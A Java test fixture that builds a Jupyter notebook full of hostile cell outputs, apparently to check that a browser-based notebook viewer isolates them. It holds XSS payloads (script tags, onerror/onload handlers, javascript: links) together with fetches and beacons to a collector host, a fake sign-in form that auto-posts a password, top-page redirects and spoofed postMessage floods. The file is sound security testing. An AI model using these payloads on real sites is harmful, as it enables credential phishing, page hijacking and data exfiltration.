package dev.millrace.cli.browser;

import java.util.List;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** A notebook whose every cell tries another way to get at the application, or to call home. */
final class HostileNotebook {
  /** How many of its cells have an output that only a frame may show. */
  static final int FRAMES = 9;

  /** What a script that runs in the application's own page would do. */
  private static final String STRIKE =
      "try{top.document.title='pwned';top.pwned=1}catch(e){};window.pwned=1;fetch('COLLECTOR/fetch').catch(()=>0)";

  private HostileNotebook() {}

  static String text(String collector) {
    ArrayNode cells = JsonMapper.shared().createArrayNode();
    for (String source : sources()) {
      ObjectNode cell = cells.addObject();
      cell.put("cell_type", "code").put("id", "c" + cells.size()).putNull("execution_count");
      cell.putObject("metadata");
      cell.putArray("outputs");
      cell.put("source", source.replace("STRIKE", STRIKE).replace("COLLECTOR", collector));
    }
    ObjectNode markdown = cells.addObject();
    markdown.put("cell_type", "markdown").put("id", "md");
    markdown.putObject("metadata");
    markdown.put(
        "source",
        "# Report\n\n<script>STRIKE</script><img src=x onerror=\"STRIKE\">\n\n[look](javascript:window.pwned=1) [here](data:text/html,x)\n\n![b](COLLECTOR/markdown.png)"
            .replace("STRIKE", STRIKE)
            .replace("COLLECTOR", collector));
    ObjectNode notebook = JsonMapper.shared().createObjectNode();
    notebook.set("cells", cells);
    ObjectNode kernel = notebook.putObject("metadata").putObject("kernelspec");
    kernel.put("name", "python3").put("display_name", "Python 3").put("language", "python");
    notebook.put("nbformat", 4).put("nbformat_minor", 5);
    return notebook.toString();
  }

  private static List<String> sources() {
    return List.of(
        display("text/html", "<h1>one</h1><script>STRIKE</script>"),
        display("text/html", "<img src=x onerror=\"STRIKE\"><svg onload=\"STRIKE\"></svg>"),
        display(
            "image/svg+xml",
            "<svg xmlns='http://www.w3.org/2000/svg'><script>STRIKE</script><image href='COLLECTOR/svg.png'/></svg>"),
        display(
            "text/markdown",
            "<script>STRIKE</script><img src=x onerror=\"STRIKE\"> [x](javascript:window.pwned=1) <iframe srcdoc=\"<script>STRIKE</script>\"></iframe>"),
        display("application/javascript", "STRIKE"),
        // a fake sign-in that looks like ours, and a link that would replace the page
        display(
            "text/html",
            "<form id=f action='COLLECTOR/form' method=post target=_top><input name=password value=x><button>Sign in to Millrace</button></form><script>document.getElementById('f').submit()</script><a id=a href='COLLECTOR/link' target=_top>More</a><script>document.getElementById('a').click();top.location='COLLECTOR/top'</script>"),
        display(
            "text/html",
            "<meta http-equiv=refresh content='0;url=COLLECTOR/refresh'><base href='COLLECTOR/'>"),
        display(
            "text/html",
            "<style>body{background:url(COLLECTOR/style.png)}@import 'COLLECTOR/import.css';</style><link rel=stylesheet href='COLLECTOR/link.css'><img src='COLLECTOR/beacon.png'>"),
        // a giant frame, and a message that pretends to be ours
        display(
            "text/html",
            "<div style='height:9000000px;width:9000000px'>big</div><script>setInterval(()=>parent.postMessage({height:1e9,type:'height'},'*'),10)</script>"),
        display(
            "text/html",
            "<script>window.open('COLLECTOR/open');localStorage.x=1;document.cookie='a=b';parent.postMessage('x','*');alert(1)</script>"),
        "print(%s)\nprint('\\x1b]8;;javascript:window.pwned=1\\x07click\\x1b]8;;\\x07')"
            .formatted(literal("<script>STRIKE</script><img src=x onerror=\"STRIKE\">")),
        "raise ValueError('<img src=x onerror=window.pwned=1><script>window.pwned=1</script>')");
  }

  private static String display(String mime, String payload) {
    return "from IPython.display import display\ndisplay({'%s': %s}, raw=True)"
        .formatted(mime, literal(payload));
  }

  /** A string as Python writes it; JSON's escapes are Python's too. */
  private static String literal(String text) {
    return JsonMapper.shared().writeValueAsString(text);
  }
}
